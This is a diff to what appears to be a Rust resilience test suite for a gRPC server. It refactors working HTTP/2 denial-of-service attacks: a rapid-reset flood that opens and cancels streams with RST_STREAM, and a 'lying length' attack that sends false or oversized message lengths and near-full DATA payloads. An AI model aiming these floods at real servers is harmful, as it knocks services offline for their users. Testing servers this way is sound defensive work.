@@ -29,6 +29,9 @@ const CONNECTIONS: usize = 4;
 const P99: Duration = Duration::from_millis(100);
 const MORE_KIB: u64 = 64 << 10;
 const IDLE_WITHIN: Duration = Duration::from_secs(5);
+/// A message has as many at most, a frame as many.
+const MESSAGE_BYTES: u32 = (1 << 20) + (64 << 10);
+const FRAME_BYTES: usize = 16 << 10;
 /// Lines of log that an attack may cost each second, and once.
 const LINES: usize = 10;
 /// Tasks that wait for whoever watches: more than any window.
@@ -163,6 +166,30 @@ fn flood_with_both(target: &Target, openings: [&[u8]; 2], lots: [&[u8]; 2]) -> V
     })
 }
 
+/// As fast as the server answers a ping behind each lot: it never has a reason to end the connection.
+fn in_step(target: &Target, connections: usize, next: impl Fn(&mut u32) -> Vec<u8> + Sync) {
+    let once = |mut stream: TcpStream| {
+        let mut frames = Frames::of(stream.try_clone().unwrap());
+        let (mut id, mut said, mut is_answered) = (1, opening(&[]), true);
+        while is_answered && Instant::now() < target.until {
+            said.extend(next(&mut id));
+            said.extend(frame(PING, 0, 0, &[7; 8]));
+            let is_pong = |frame: Frame| frame.kind == PING && frame.flags == ACK;
+            is_answered = stream.write_all(&said).is_ok() && frames.any(is_pong);
+            said.clear();
+        }
+    };
+    std::thread::scope(|scope| {
+        for _ in 0..connections {
+            scope.spawn(|| {
+                while Instant::now() < target.until {
+                    connect_from(ATTACKER, &target.address).into_iter().for_each(once);
+                }
+            });
+        }
+    });
+}
+
 /// The next stream's number.
 fn take(id: &mut u32) -> u32 {
     *id += 2;
@@ -178,32 +205,15 @@ fn watch() -> Vec<u8> {
     pb::Watch::default().encode_to_vec()
 }
 
-/// As many as will go; and in lots that are just not too many, as fast as the server answers a ping behind them.
+/// As many as will go; and in lots that are just not too many.
 fn rapid_reset(target: &Target) -> Vec<TcpStream> {
     let reset = |id: &mut u32| {
         let id = take(id);
         let open = [call(id, "/Contact/getTask"), only_message(id, &watch())];
         [open.concat(), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
     };
-    let in_lots = |mut stream: TcpStream| {
-        let mut frames = Frames::of(stream.try_clone().unwrap());
-        let (mut id, mut said, mut is_answered) = (1, opening(&[]), true);
-        while is_answered && Instant::now() < target.until {
-            said.extend(many(16, || reset(&mut id)));
-            said.extend(frame(PING, 0, 0, &[7; 8]));
-            let is_pong = |frame: Frame| frame.kind == PING && frame.flags == ACK;
-            is_answered = stream.write_all(&said).is_ok() && frames.any(is_pong);
-            said.clear();
-        }
-    };
     std::thread::scope(|scope| {
-        for _ in 0..CONNECTIONS / 2 {
-            scope.spawn(|| {
-                while Instant::now() < target.until {
-                    connect_from(ATTACKER, &target.address).into_iter().for_each(in_lots);
-                }
-            });
-        }
+        scope.spawn(|| in_step(target, CONNECTIONS / 2, |id| many(16, || reset(id))));
         flood_all(target, CONNECTIONS / 2, &opening(&[]), |id| many(500, || reset(id)))
     })
 }
@@ -268,18 +278,33 @@ fn header_bomb(target: &Target) -> Vec<TcpStream> {
     })
 }
 
-/// Each message says that it is as long as one may be, and has a few bytes. Some say that they are longer.
+/// Each message says that it is as long as one may be, and has a few bytes, or nearly all. Some say that they are
+/// longer.
 fn lying_length(target: &Target) -> Vec<TcpStream> {
-    flood_all(target, CONNECTIONS, &opening(&[]), |id| {
+    let begin = |id: u32, length: u32| {
+        let said = [&[0][..], &length.to_be_bytes(), b"few"].concat();
+        [call(id, "/Contact/submitTask"), frame(DATA, 0, id, &said)].concat()
+    };
+    let rest = frame(PING, 0, 0, &[7; 8]);
+    let few = |id: &mut u32| {
         if *id > 1000 {
-            return frame(PING, 0, 0, &[7; 8]);
+            return rest.clone();
         }
-        many(100, || {
-            let id = take(id);
-            let length: u32 = if id % 8 == 1 { u32::MAX } else { (1 << 20) + (64 << 10) };
-            let said = [&[0][..], &length.to_be_bytes(), b"few"].concat();
-            [call(id, "/Contact/submitTask"), frame(DATA, 0, id, &said)].concat()
-        })
+        let lengths = [u32::MAX, MESSAGE_BYTES, MESSAGE_BYTES, MESSAGE_BYTES];
+        many(100, || begin(take(id), lengths[*id as usize / 2 % 4]))
+    };
+    let nearly_all = |id: &mut u32| {
+        if *id > 200 {
+            return rest.clone();
+        }
+        let id = take(id);
+        let most =
+            many(MESSAGE_BYTES as usize / FRAME_BYTES - 1, || frame(DATA, 0, id, &[b'x'; FRAME_BYTES]));
+        [begin(id, MESSAGE_BYTES), most].concat()
+    };
+    std::thread::scope(|scope| {
+        scope.spawn(|| in_step(target, CONNECTIONS / 2, nearly_all));
+        flood_all(target, CONNECTIONS / 2, &opening(&[]), few)
     })
 }
 
